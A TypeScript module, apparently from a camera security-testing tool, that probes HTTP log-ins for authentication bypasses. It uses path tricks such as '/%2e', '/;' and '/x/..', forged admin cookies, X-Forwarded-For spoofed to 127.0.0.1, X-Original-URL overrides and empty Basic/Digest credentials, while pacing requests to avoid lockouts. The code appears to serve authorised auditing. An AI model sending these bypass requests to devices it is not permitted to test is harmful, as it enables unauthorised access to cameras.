import { answerOf } from '../../suites/facts/answer.ts'
import { isTelling } from '../../suites/facts/bypass.ts'
import { alike } from '../../suites/facts/likeness.ts'
import type { Exchange } from '../../suites/observations/exchange.ts'
import type { HttpBypass, HttpVisit } from '../../suites/observations/http-anonymous.ts'
import type { Asked } from '../instruments/conversation.ts'
import type { Bench } from '../probe.ts'

/** A request without a log-in, and the one thing that is changed in it. */
interface Trick {
  how: string
  asked: Asked
}

const LOCAL = '127.0.0.1'

/**
 * Changes that open some cameras and none that are sound: parts of an address that a check of the log-in reads in another
 * way than the page behind it, headers and cookies that nobody gave, other methods. No name and no password is among them.
 */
export function tricksFor(target: string, authority: string): Trick[] {
  const [, path = '', query = ''] = /^([^?]*)(.*)$/.exec(target) ?? []
  const and = query === '' ? '?' : '&'
  const last = path.lastIndexOf('/') + 1
  const encoded = `${path.slice(0, last)}%${path.charCodeAt(last).toString(16)}${path.slice(last + 1)}`
  const isEncodable = /[A-Za-z0-9]/.test(path[last] ?? '')
  const targets = [
    `${target}${and}x=1`,
    `${target}${and}auth=1`,
    `${target}${and}x.css`,
    `${path};jsessionid=1${query}`,
    `${path}/x.css${query}`,
    `${path}.css${query}`,
    `${path}/${query}`,
    `/${target}`,
    `/.${target}`,
    `/%2e${target}`,
    `/;${target}`,
    `/x/..${target}`,
    `${path.toUpperCase()}${query}`,
    ...(isEncodable ? [`${encoded}${query}`] : []),
    `${authority}${target}`,
  ]
  const changed = [...new Set(targets)].filter((t) => t !== target)
  const withHeaders = (how: string, headers: Asked['headers'], to = target): Trick => ({
    how,
    asked: { method: 'GET', target: to, ...(headers ? { headers } : {}) },
  })
  return [
    ...changed.map((t): Trick => ({ how: `GET ${t}`, asked: { method: 'GET', target: t } })),
    ...['get', 'CAMSEAL'].map((method): Trick => ({ how: `${method} ${target}`, asked: { method, target } })),
    withHeaders('Cookie: uid=admin; user=admin; role=admin; session=1', [
      ['Cookie', 'uid=admin; user=admin; role=admin; session=1'],
    ]),
    withHeaders(`X-Forwarded-For, X-Real-IP, Forwarded: ${LOCAL}`, [
      ['X-Forwarded-For', LOCAL],
      ['X-Real-IP', LOCAL],
      ['Forwarded', `for=${LOCAL}`],
    ]),
    withHeaders(
      `X-Original-URL, X-Rewrite-URL: ${target}`,
      [
        ['X-Original-URL', target],
        ['X-Rewrite-URL', target],
      ],
      '/',
    ),
  ]
}

/** Log-ins of nobody: no name, no password. A device may count them as failures. */
const nameless = (target: string): Trick[] =>
  ['Basic Og==', 'Digest username="", realm="", nonce="", uri="/", response=""'].map((value) => ({
    how: `Authorization: ${value.slice(0, 19)}`,
    asked: { method: 'GET', target, headers: [['Authorization', value]] },
  }))

/** Log-ins that one endpoint is sent without a name. */
export const NAMELESS = 2

interface Asking {
  /** A log-in by a browser, or a device that answers late: one resource alone. */
  isSlow: boolean
  /** A browser logs in. */
  isByPage: boolean
  authority: string
  /** Without a log-in. */
  ask(asked: Asked): Promise<Exchange>
  /** Logged in. */
  genuine(target: string): Promise<Exchange | null>
}

const BETWEEN_CONTROLS = 8
const MOST_TARGETS = 3
/** Of a slow device's further kinds of resources one trick in so many is tried: some of every sort. */
const OF_SLOW = 4
const MOST_SILENT = 3
const LONGEST_WAIT_S = 120

/**
 * Tries to get round the log-in of what is given with one and refused without, one resource of each kind. The right log-in
 * comes between; where it no longer works, what is sent was too much for the device: a ban is waited out and no more tried.
 */
export async function tryBypasses(
  bench: Bench,
  visits: HttpVisit[],
  { isSlow, isByPage, authority, ask, genuine }: Asking,
): Promise<HttpBypass[] | null> {
  const bans = bench.statement.bruteForce.filter((r) => r.protection === 'lock' && r.scope !== 'account')
  const between = Math.max(1, Math.min(BETWEEN_CONTROLS, ...bans.map((r) => (r.failures ?? BETWEEN_CONTROLS) - 2)))
  const chosen = chosenOf(visits, bans.length > 0 || isByPage ? 1 : MOST_TARGETS)
  const [decoy] = visits.filter((v) => v.source === 'decoy')
  if (chosen.length === 0 || !decoy) return null
  let silent = 0
  const send = async ({ how, asked }: Trick): Promise<HttpBypass> => {
    const exchange = await ask(asked)
    silent = exchange.failure?.code === 'timeout' ? silent + 1 : 0
    return { how, exchange }
  }
  const decoyTries: HttpBypass[] = []
  for (const trick of tricksFor(decoy.target, authority))
    if (silent < MOST_SILENT && !bench.signal.aborted) decoyTries.push(await send(trick))
  for (const [i, visit] of chosen.entries()) {
    if (silent >= MOST_SILENT || bench.signal.aborted) break
    const { target } = visit
    const all = tricksFor(target, authority)
    const tricks = i === 0 ? [...all, ...nameless(target)] : isSlow ? all.filter((_, n) => n % OF_SLOW === 0) : all
    const tries: HttpBypass[] = []
    let control: Exchange | null = null
    for (const [n, trick] of tricks.entries()) {
      if (silent >= MOST_SILENT || bench.signal.aborted) break
      if (n % between === 0 && n > 0 && !isByPage) {
        control = await genuine(target)
        if (!isGranted(control, visit)) break
      }
      tries.push(await send(trick))
    }
    const again = await ask({ method: 'GET', target })
    const after = isGranted(control, visit) || control === null ? await genuine(target) : control
    if (after === null) break
    visit.bypasses = { tries, again, after }
    if (isGranted(after, visit)) continue
    await waitOut(bench)
    break
  }
  return decoyTries
}

/** The first resource of each kind; one alone where each try is a page's, or bans go by address: every refusal may count. */
function chosenOf(visits: readonly HttpVisit[], most: number): HttpVisit[] {
  const kinds = new Set<string>()
  return visits
    .filter((v) => v.access === 'protected' && isTelling(answerOf(v.genuine), answerOf(v.anonymous)))
    .filter(({ holds }) => !kinds.has(holds) && kinds.add(holds))
    .slice(0, most)
}

const isGranted = (exchange: Exchange | null, { genuine, anonymous }: HttpVisit): boolean =>
  alike(answerOf(exchange), answerOf(genuine), answerOf(anonymous)) === 'granted'

async function waitOut(bench: Bench): Promise<void> {
  const seconds = Math.max(0, ...bench.statement.bruteForce.map((r) => Math.min(r.lockSeconds ?? 0, LONGEST_WAIT_S)))
  await bench.wait((seconds + 2) * 1000, { code: 'http-anonymous.waiting', values: { seconds } })
}
